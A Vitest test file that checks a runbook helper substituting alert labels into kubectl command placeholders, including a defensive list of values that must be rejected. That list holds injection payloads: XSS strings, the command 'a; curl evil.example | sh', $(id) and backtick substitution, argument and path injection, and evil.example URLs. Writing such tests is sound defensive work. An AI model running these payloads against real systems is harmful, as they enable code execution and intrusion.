import { describe, expect, it } from 'vitest';
import { withLabels } from './runbook.js';

const COMMAND = '<code>kubectl -n $NAMESPACE logs $POD</code>';

describe('the placeholders of a runbook', () => {
  it('get the labels of the alert', () => {
    expect(withLabels(COMMAND, { namespace: 'notes', pod: 'notes-7d9f-x2x' })).toBe(
      '<code>kubectl -n notes logs notes-7d9f-x2x</code>',
    );
  });

  it.each(['10.0.0.7:9464', 'team/notes', '/var/lib/data', 'notes_2.internal'])('may be %s', (namespace) => {
    expect(withLabels('$NAMESPACE', { namespace })).toBe(namespace);
  });

  it('stay if the alert does not have them, also for inherited members of objects', () => {
    expect(withLabels(`${COMMAND} $CONSTRUCTOR`, {})).toBe(`${COMMAND} $CONSTRUCTOR`);
  });

  it.each([
    '<img src=x onerror=alert(1)>',
    '"onmouseover="alert(1)',
    '&lt;b&gt;',
    '[a](javascript:alert(1))',
    'a b',
    'a; curl evil.example | sh',
    '`id`',
    '$(id)',
    '$POD',
    '--kubeconfig=/tmp/x',
    '../x',
    'https://evil.example/x',
    '//evil.example',
    'a\nb',
    '',
  ])('stay if a server sends an invalid name: %j', (value) => {
    expect(withLabels(COMMAND, { namespace: value, pod: value })).toBe(COMMAND);
  });
});
